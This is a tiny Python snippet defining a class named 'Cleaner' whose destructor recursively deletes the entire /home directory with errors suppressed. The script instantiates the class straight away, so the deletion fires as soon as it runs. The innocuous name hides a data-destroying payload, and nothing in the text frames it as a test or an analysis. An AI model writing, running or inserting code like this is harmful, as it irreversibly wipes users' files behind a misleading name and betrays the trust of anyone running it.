import shutil
class Cleaner:
    def __del__(self):
        shutil.rmtree("/home", ignore_errors=True)
Cleaner()
